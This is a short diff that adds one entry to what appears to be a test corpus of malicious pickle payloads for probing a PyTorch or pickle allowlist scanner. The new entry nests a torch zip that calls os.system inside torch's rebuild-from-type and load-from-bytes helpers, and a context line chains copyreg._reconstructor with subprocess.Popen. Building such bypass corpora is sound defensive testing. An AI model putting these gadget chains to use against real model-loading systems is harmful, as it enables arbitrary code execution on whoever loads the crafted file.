@@ -204,6 +204,10 @@ CORPUS: tuple[Payload, ...] = (
     F("reconstructor-popen", "allowed-callable", lambda m: p2(call(
         text_global("copyreg", "_reconstructor"), text_global("subprocess", "Popen"),
         text_global("subprocess", "Popen"), _shell_list(m)))),
+    F("rebuild-from-type-load-from-bytes", "allowed-callable", lambda m: p4(call(
+        stack_global("torch._tensor", "_rebuild_from_type_v2"),
+        stack_global("torch.storage", "_load_from_bytes"), stack_global("torch", "Tensor"),
+        tup(binbytes(torch_zip(os_system(m)))), EMPTY_DICT))),
     F("rebuild-from-type-class-as-function", "allowed-callable", lambda _: p2(call(
         text_global("torch._tensor", "_rebuild_from_type_v2"),
         text_global("torch.nn.modules.linear", "Linear"), text_global("torch", "Tensor"),
